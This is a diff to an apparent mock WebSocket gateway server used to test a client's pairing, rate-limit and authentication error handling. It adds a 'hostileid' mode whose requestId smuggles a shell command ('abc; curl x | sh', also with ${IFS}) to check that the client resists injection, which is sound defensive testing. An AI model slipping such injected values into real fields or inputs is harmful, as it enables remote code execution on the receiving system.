@@ -19,9 +19,10 @@ match the challenge, the Ed25519 signature over the v3 or the v2 payload.
 Modes:
   hello              hello-ok (deviceToken; deviceTokens too for a bootstrap token), ticks
                      every 200 ms, answers "health" and "echo", INVALID_REQUEST otherwise
-  pairing            PAIRING_REQUIRED (requestId req-1234), then close 1008
-  close1008          no answer, close 1008 "pairing required (requestId: req-77)"
+  pairing            PAIRING_REQUIRED (requestId 5f0c6a2e-1234-4c8e-9b1a-7d3e2f4a6b8c), then close 1008
+  close1008          no answer, close 1008 "pairing required (requestId: 77777777-7777-4777-8777-777777777777)"
   wait               PAIRING_REQUIRED with recommendedNextStep wait_then_retry
+  hostileid          as wait, but the requestId is a shell command, not the gateway's UUID
   ratelimited        AUTH_RATE_LIMITED with retryAfterMs 2500
   mismatch           PROTOCOL_MISMATCH
   bootstrapinvalid   AUTH_BOOTSTRAP_TOKEN_INVALID
@@ -229,15 +230,19 @@ async def run(ws):
         await ws.close(1008, "unauthorized")
     elif MODE == "pairing":
         await ws.send(error(req_id, "NOT_PAIRED", "pairing required", "PAIRING_REQUIRED",
-                            details={"reason": "not-paired", "requestId": "req-1234", "deviceId": params["device"]["id"],
+                            details={"reason": "not-paired", "requestId": "5f0c6a2e-1234-4c8e-9b1a-7d3e2f4a6b8c", "deviceId": params["device"]["id"],
                                      "pauseReconnect": True, "waitForResolution": True}))
-        await ws.close(1008, "pairing required (requestId: req-1234)")
+        await ws.close(1008, "pairing required (requestId: 5f0c6a2e-1234-4c8e-9b1a-7d3e2f4a6b8c)")
     elif MODE == "close1008":
-        await ws.close(1008, "pairing required (requestId: req-77)")
+        await ws.close(1008, "pairing required (requestId: 77777777-7777-4777-8777-777777777777)")
     elif MODE == "wait":
         await ws.send(error(req_id, "NOT_PAIRED", "waiting for approval", "PAIRING_REQUIRED", retryable=True,
-                            details={"requestId": "req-5", "recommendedNextStep": "wait_then_retry"}))
-        await ws.close(1008, "pairing required (requestId: req-5)")
+                            details={"requestId": "55555555-5555-4555-8555-555555555555", "recommendedNextStep": "wait_then_retry"}))
+        await ws.close(1008, "pairing required (requestId: 55555555-5555-4555-8555-555555555555)")
+    elif MODE == "hostileid":
+        await ws.send(error(req_id, "NOT_PAIRED", "waiting for approval", "PAIRING_REQUIRED", retryable=True,
+                            details={"requestId": "abc; curl x | sh", "recommendedNextStep": "wait_then_retry"}))
+        await ws.close(1008, "pairing required (requestId: abc;curl${IFS}x|sh)")
     elif MODE == "ratelimited":
         await ws.send(error(req_id, "INVALID_REQUEST", "slow down", "AUTH_RATE_LIMITED", retryAfterMs=2500, retryable=True))
         await ws.close(1008, "rate limited")
